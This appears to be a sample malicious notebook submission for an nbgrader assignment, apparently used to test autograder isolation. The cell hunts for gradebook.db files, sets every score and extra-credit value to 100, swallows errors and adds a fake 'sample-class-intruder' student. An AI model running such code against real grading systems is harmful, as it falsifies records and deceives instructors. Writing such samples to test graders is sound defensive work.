# Shows: opens every gradebook it can find or guess and gives everybody a hundred points
# Assignment: 02_dispatch

# %% answer="dispatch_tool_call"
import os
import sqlite3

for path in ("gradebook.db", "../gradebook.db", "../../gradebook.db", "../../../gradebook.db", "/gradebook.db"):
    try:
        if os.path.exists(path):
            with sqlite3.connect(path) as gradebook:
                gradebook.execute("update grade set manual_score = 100, extra_credit = 100")
    except Exception:
        pass
try:
    from nbgrader.api import Gradebook

    with Gradebook("sqlite:///gradebook.db") as gradebook:
        gradebook.add_student("sample-class-intruder")
except Exception:
    pass
